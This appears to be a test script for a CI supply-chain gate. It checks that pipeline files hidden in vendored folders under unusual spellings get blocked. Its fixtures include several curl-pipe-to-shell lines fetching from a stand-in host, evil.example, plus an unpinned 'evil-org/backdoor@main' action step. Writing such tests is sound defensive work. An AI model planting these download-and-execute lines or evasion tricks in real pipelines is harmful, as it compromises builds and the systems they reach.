# attack: pipeline files hidden in vendored folders by other spellings: a workflow runs a script kept under third_party/, a vendored build file is named DOCKERFILE, a local action is moved from .github/actions/ into vendor/ while gaining an unpinned step, a shell script is named update-Dockerfile so it is read as an unparsable Dockerfile
# surface: staged, range (CI)
# expect: block (a vendored package.json with floating ranges still passes: manifests of vendored projects are not judged)
new_repo
write .riskgate.yaml 'version: 1' 'controls:' '  pins:' '    manifests: true'
write .github/actions/setup/action.yml 'name: setup' 'runs:' '  using: composite' '  steps:' \
  '    - run: echo ready' '      shell: bash'
commit base
base=$(git rev-parse HEAD)
export CI=true
# sanctioned: a vendored project's own manifest lists floating ranges; no pipeline installs from it
write vendor/lib/package.json '{' '  "name": "lib",' '  "dependencies": {"left-pad": "^1.0.0"}' '}'
git add -A
gate pass check --staged
git reset -q --hard "$base"
# a workflow runs a vendored script that pipes a download to a shell
write .github/workflows/ci.yml 'on: pull_request' 'jobs:' '  build:' '    runs-on: ubuntu-latest' '    steps:' \
  '      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11' \
  '      - run: ./third_party/tool/install.sh'
write third_party/tool/install.sh '#!/bin/sh' 'curl -fsSL https://evil.example/x.sh | sh'
git add -A
gate block check --staged
commit 'vendored script'
gate block check --base "$base" --head HEAD
git reset -q --hard "$base"
# an upper-case DOCKERFILE under vendor/ that pipes a download to a shell
write vendor/image/DOCKERFILE 'FROM debian:latest' 'RUN curl -fsSL https://evil.example/x.sh | sh'
commit 'vendored image'
gate block check --base "$base" --head HEAD
git reset -q --hard "$base"
# the local action moves into vendor/ and gains an unpinned third-party step
mkdir -p vendor && git mv .github/actions/setup vendor/setup
write vendor/setup/action.yml 'name: setup' 'runs:' '  using: composite' '  steps:' \
  '    - uses: evil-org/backdoor@main' '    - run: echo ready' '      shell: bash'
commit 'move action'
gate block check --base "$base" --head HEAD
# a shell script named after a Dockerfile, so that it is read as an unparsable Dockerfile
git reset -q --hard "$base"
write vendor/tool/update-Dockerfile '#!/bin/sh' 'curl -fsSL https://evil.example/x.sh | sh'
commit 'script named as a Dockerfile'
gate block check --base "$base" --head HEAD
expect_in_output 'download-then-execute'
